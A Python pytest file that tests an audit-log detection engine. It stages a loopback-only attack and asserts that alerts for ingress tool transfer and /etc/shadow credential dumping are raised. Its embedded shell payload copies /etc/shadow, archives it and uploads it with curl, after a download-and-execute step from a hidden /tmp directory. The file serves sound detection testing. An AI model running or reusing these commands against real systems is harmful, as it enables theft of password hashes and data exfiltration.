"""Record a fresh kernel audit log of a loopback-only attack and detect it.

Benign commands and a small attack run in one audited session (login uid set):
download a script from a local HTTP server into a hidden /tmp dir, make it
executable, run it; it reads /etc/shadow, archives the copy and uploads it to
a local listener. Everything stays on 127.0.0.1.
"""

from __future__ import annotations

import http.server
import os
import socket
import socketserver
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest

from detection.engine import DetectionEngine

from .audit_recorder import AuditRecorder, RecorderUnavailable

pytestmark = pytest.mark.audit

PAYLOAD = """#!/bin/sh
# test payload: collect credentials, stage, archive, exfiltrate to a local listener
cat /etc/shadow > "$1/s.txt" 2>/dev/null
tar czf "$1/s.tgz" -C "$1" s.txt
curl -s -m 5 --data-binary @"$1/s.tgz" http://127.0.0.1:$2/up >/dev/null 2>&1 || true
"""


class _Sink(socketserver.BaseRequestHandler):
    def handle(self):
        try:
            self.request.settimeout(2)
            while self.request.recv(65536):
                pass
        except OSError:
            pass


def _serve(directory: str):
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(  # noqa: E731
        *a, directory=directory, **k
    )
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


@pytest.fixture
def recorder_ok():
    try:
        AuditRecorder.check_available()
    except RecorderUnavailable as exc:
        pytest.skip(f"cannot record a live audit log: {exc}")


def test_live_recording_detects_download_shadow_exfil(tmp_path, recorder_ok):
    www = tmp_path / "www"
    www.mkdir()
    (www / "update.sh").write_text(PAYLOAD)
    http_srv = _serve(str(www))
    sink = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Sink)
    sink.daemon_threads = True
    threading.Thread(target=sink.serve_forever, daemon=True).start()
    stage = Path(tempfile.mkdtemp(prefix=".hw-cache-", dir="/tmp"))
    log = tmp_path / "audit.log"
    script = f"""
set -u
id >/dev/null; uname -a >/dev/null; ls /tmp >/dev/null; date >/dev/null
curl -s -o {stage}/.upd http://127.0.0.1:{http_srv.server_address[1]}/update.sh
chmod +x {stage}/.upd
{stage}/.upd {stage} {sink.server_address[1]}
rm -f {stage}/s.txt
"""
    try:
        with AuditRecorder(log) as rec:
            proc = rec.popen(
                ["/bin/bash", "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            proc.wait(timeout=60)
            session_pid = proc.pid
            time.sleep(0.5)  # let auditd write the last records
    finally:
        http_srv.shutdown()
        sink.shutdown()
        subprocess.run(["rm", "-rf", str(stage)], check=False)
    status = subprocess.run(["auditctl", "-s"], capture_output=True, text=True).stdout
    assert "pid 0" in status  # our auditd is gone
    lines = log.read_text(errors="replace").splitlines()
    assert len(lines) > 20, f"audit log too short ({len(lines)} lines): {lines[:5]}"
    eng = DetectionEngine(host=socket.gethostname())
    res = eng.process_lines(lines)
    res2 = eng.flush()
    assert not [e for e in res.errors + res2.errors if "type=" in str(e[0])[:6]], res.errors[:3]
    alerts = [a for a in eng.alerts("medium")]
    assert alerts, f"no medium+ alert; all: {[a['techniques'] for a in eng.alerts()]}"
    best = max(alerts, key=lambda a: len(a["techniques"]))
    for tid in ("T1105", "T1003.008"):
        assert tid in best["techniques"], best["techniques"]
    pids = {c["pid"] for c in best["chain"] if c["type"] == "process"}
    assert session_pid in pids or best["root"]["pid"] == session_pid, (session_pid, pids)
    assert os.path.exists(log)
